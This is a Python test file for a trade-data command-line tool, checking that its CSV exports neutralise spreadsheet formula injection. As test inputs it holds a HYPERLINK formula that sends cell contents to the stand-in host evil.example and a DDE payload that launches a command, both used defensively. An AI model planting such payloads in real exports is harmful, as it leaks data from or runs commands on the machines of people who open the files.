"""CSV exports cannot smuggle a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from asymmetry.cli import app
from asymmetry.csvsafe import csv_text, neutralise

runner = CliRunner()
# A product name as a hostile trade file could carry it.
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"smart cards")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+41 22 000", "'+41 22 000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3.2", "-3.2"),  # a number written as text stays a number
        ("+5", "+5"),
        ("steel, flat-rolled", "steel, flat-rolled"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, shown: str) -> None:
    assert neutralise(cell) == shown


def test_csv_text_quotes_text_cells_only() -> None:
    frame = pd.DataFrame(
        {
            "product": ["852352", "-1"],
            "name": [EVIL, "@cmd"],
            "change": [-3.2, -0.5],  # numeric: never quoted
            "count": [1, -2],
            "flag": [True, False],
            "note": [None, "-x"],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[0] == ["product", "name", "change", "count", "flag", "note"]
    assert rows[1] == ["852352", "'" + EVIL, "-3.2", "1", "True", ""]
    assert rows[2] == ["-1", "'@cmd", "-0.5", "-2", "False", "'-x"]
    assert frame.loc[0, "name"] == EVIL  # the caller's frame is not changed
    assert csv_text(frame, header=False).count("\n") == 2


def evil_products(shared_data: Path, folder: Path) -> Path:
    """HS22 product codes with 852352 (the BACI sample's product) renamed to a formula."""
    source = shared_data / "baci" / "product_codes_HS22_V202501.csv"
    table = pd.read_csv(source, dtype=str)
    table.loc[table["code"] == "852352", "description"] = EVIL
    path = folder / "product_codes_HS22_V202501.csv"
    table.to_csv(path, index=False)
    return path


def test_cli_csv_neutralises_product_names(
    store_env: Path, shared_data: Path, tmp_path: Path
) -> None:
    sample = tmp_path / "BACI_sample_HS22_Y2023_k852352.csv"
    shutil.copy(shared_data / "baci" / sample.name, sample)
    shutil.copy(shared_data / "baci" / "country_codes_V202501.csv", tmp_path)
    evil_products(shared_data, tmp_path)
    loaded = runner.invoke(app, ["ingest", "baci", str(sample)])
    assert loaded.exit_code == 0, loaded.output
    result = runner.invoke(app, ["dependencies", "AUS", "--on", "KOR", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and rows[0]["product"] == "852352"
    assert rows[0]["name"] == "'" + EVIL
    assert float(rows[0]["dependence"]) > 0  # numbers are still numbers
